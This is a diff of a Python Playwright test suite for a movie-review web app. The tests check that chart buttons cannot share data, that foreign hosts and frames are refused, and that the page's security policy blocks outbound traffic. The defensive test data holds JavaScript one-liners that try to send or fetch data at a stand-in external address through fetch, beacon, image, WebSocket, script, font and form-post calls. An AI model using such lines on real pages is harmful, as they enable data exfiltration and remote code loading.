@@ -1,6 +1,4 @@
-"""No page sends or fetches anything elsewhere, whatever is pressed on its charts; foreign names and frames
-are refused.
-"""
+"""No page sends or fetches anything elsewhere; foreign host names and frames are refused."""
 
 import subprocess
 import sys
@@ -11,17 +9,10 @@ import pytest
 from playwright.sync_api import BrowserContext, Page, expect
 
 from imdb_core import paths
+from ui.pages import PAGES
 
-PAGES = {  # page -> (its link, how many charts it shows at least)
-    "classify": ("/?all=true", 1),
-    "learn": ("/learn", 6),
-    "train": ("/train", 0),
-    "watch": ("/watch?run=pretrained/lstm", 2),
-    "runs": ("/runs", 0),
-    "compare": ("/compare", 1),
-    "inspect": ("/inspect", 4),
-    "data": ("/data", 4),
-}
+LINKS = {"classify": "?all=true", "watch": "watch?run=pretrained/lstm"}  # where the plain page has no chart
+CHARTS = {"classify": 1, "learn": 6, "watch": 2, "compare": 1, "inspect": 4, "data": 4}  # at least so many
 REVIEW = "A wonderful film with canaryword in it"
 SENDING = ("share", "cloud", "send", "upload", "edit in", "chart studio", "produced with")
 
@@ -37,9 +28,9 @@ def opened(page: Page, link: str, charts: int) -> None:
     )
 
 
-@pytest.mark.parametrize("name", PAGES)
+@pytest.mark.parametrize("name", [page.script for page in PAGES])
 def test_every_chart_button_can_be_pressed_and_nothing_goes_elsewhere(context: BrowserContext, server, name):
-    link, charts = PAGES[name]
+    link, charts = LINKS.get(name, name), CHARTS.get(name, 0)
     asked, windows, refusals = [], [], []
     context.on("request", lambda request: asked.append(request.url))
     page = context.new_page()
@@ -48,9 +39,9 @@ def test_every_chart_button_can_be_pressed_and_nothing_goes_elsewhere(context: B
         "console",
         lambda message: refusals.append(message.text) if "Content Security" in message.text else None,
     )
-    opened(page, server.url + link, charts)
+    opened(page, f"{server.url}/{link}", charts)
     buttons = page.locator(".modebar-btn")
-    titles = buttons.evaluate_all("buttons => buttons.map(one => one.dataset.title ?? one.title)")
+    titles = buttons.evaluate_all("buttons => buttons.map(button => button.dataset.title ?? button.title)")
     offered = [title for title in titles if any(word in title.lower() for word in SENDING)]
     assert len(titles) >= charts and not offered
     for button in buttons.all():
@@ -61,30 +52,33 @@ def test_every_chart_button_can_be_pressed_and_nothing_goes_elsewhere(context: B
     assert not windows and not refusals
 
 
-@pytest.mark.parametrize(
-    "attempt",
-    [
-        "fetch('https://192.0.2.1/')",
-        "navigator.sendBeacon('https://192.0.2.1/') ? 'sent' : Promise.reject('refused')",
-        "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; "
-        "i.src = 'https://192.0.2.1/x.png' })",
-        "new Promise((done, fail) => { const s = new WebSocket('wss://192.0.2.1/'); s.onopen = done; s.onerror = fail })",
-        "new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = fail; "
-        "s.src = 'https://192.0.2.1/x.js'; document.head.append(s) })",
-        "document.fonts.add(new FontFace('x', 'url(https://192.0.2.1/x.woff2)')).load?.() ?? "
-        "new FontFace('x', 'url(https://192.0.2.1/x.woff2)').load()",
-        "new Promise((done, fail) => { const f = document.createElement('form'); f.method = 'post'; "
-        "f.action = 'https://192.0.2.1/'; document.body.append(f); f.submit() })",
-    ],
-    ids=["fetch", "beacon", "image", "socket", "script", "font", "form"],
-)
-def test_the_browser_itself_refuses_what_a_script_would_send_or_fetch(page: Page, server, attempt):
+ELSEWHERE = "https://192.0.2.1"
+ATTEMPTS = {
+    "fetch": "fetch('ELSEWHERE/')",
+    "beacon": "navigator.sendBeacon('ELSEWHERE/') ? 'sent' : Promise.reject('refused')",
+    "image": "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; "
+    "i.src = 'ELSEWHERE/x.png' })",
+    "socket": "new Promise((done, fail) => { const s = new WebSocket('wss://192.0.2.1/'); s.onopen = done; "
+    "s.onerror = fail })",
+    "script": "new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; "
+    "s.onerror = fail; s.src = 'ELSEWHERE/x.js'; document.head.append(s) })",
+    "font": "new FontFace('x', 'url(ELSEWHERE/x.woff2)').load()",
+    "form": "new Promise(() => { const f = document.createElement('form'); f.method = 'post'; "
+    "f.action = 'ELSEWHERE/'; document.body.append(f); f.submit() })",
+}
+BLOCKED = """() => {
+  const blocked = new Promise((done) =>
+    document.addEventListener("securitypolicyviolation", (event) => done(event.blockedURI)))
+  Promise.resolve(ATTEMPT).catch(() => null)
+  return blocked
+}"""
+
+
+@pytest.mark.parametrize("way", ATTEMPTS)
+def test_the_browser_itself_refuses_what_a_script_would_send_or_fetch(page: Page, server, way):
     page.goto(server.url)
-    violations = "new Promise(done => document.addEventListener('securitypolicyviolation', event => done(event.blockedURI)))"
-    blocked = page.evaluate(
-        f"() => {{ const seen = {violations}; Promise.resolve({attempt}).catch(() => null); return seen }}"
-    )
-    assert blocked.startswith(("https://192.0.2.1", "wss://192.0.2.1"))
+    blocked = page.evaluate(BLOCKED.replace("ATTEMPT", ATTEMPTS[way].replace("ELSEWHERE", ELSEWHERE)))
+    assert blocked.startswith((ELSEWHERE, "wss://192.0.2.1"))
 
 
 @pytest.mark.parametrize(
@@ -105,14 +99,14 @@ def test_a_foreign_host_name_gets_a_sentence_that_says_what_to_do(server, path, 
 def test_a_page_of_another_site_cannot_show_this_one_in_a_frame(page: Page, server, tmp_path):
     (tmp_path / "frame.html").write_text(f'<iframe src="{server.url}" width="900" height="600"></iframe>')
     command = [sys.executable, "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory", str(tmp_path)]
-    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env={"PYTHONUNBUFFERED": "1"}) as other:
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env={"PYTHONUNBUFFERED": "1"}) as site:
         try:
-            port = other.stdout.readline().split(" port ")[1].split()[0]
+            port = site.stdout.readline().split(" port ")[1].split()[0]
             page.goto(f"http://127.0.0.1:{port}/frame.html")
             page.wait_for_timeout(3000)
             assert page.frames[1].locator("textarea").count() == 0
         finally:
-            other.kill()
+            site.kill()
 
 
 def test_no_file_of_plotly_is_copied_into_the_app(server):
